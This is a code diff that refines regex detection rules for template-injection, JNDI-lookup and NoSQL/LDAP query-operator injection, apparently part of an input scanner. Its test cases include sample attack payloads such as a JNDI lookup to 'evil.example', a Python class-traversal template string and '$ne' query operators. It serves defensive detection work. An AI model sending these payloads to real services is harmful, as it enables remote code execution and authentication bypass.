@@ -26,7 +26,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'An expression that a template engine would work out.',
     pattern:
-      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|::-|dns|script|url|base64\w{0,8})\s{0,2}:|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
+      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|dns|script|url|base64\w{0,8})\s{0,2}:|\$\{::-\w{1,8}\}|\$\{\w{0,6}\$\{[^{}\n]{1,40}\}\w{0,6}(?:\$\{|:)|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
     hits: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1]}}", '${jndi:ldap://evil.example/a}', '<%= 7*7 %>'],
     misses: ['{{ user.name }}', '${HOME}/bin', '{{ price * 2 }}', 'a {{total}} of {{count}}'],
   },
@@ -48,7 +48,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A value is an operator of a document or directory query.',
     pattern:
-      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin|func|function|accumulator|eval)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:true|1|this)\b/gi,
+      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin|func|function|accumulator|eval)['"]?\s{0,4}:|(?:\w|^)\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:(?:true|1|this)\b|['"]{2})/gi,
     hits: [
       "'; return true; var x='",
       '{"user": {"$ne": null}}',
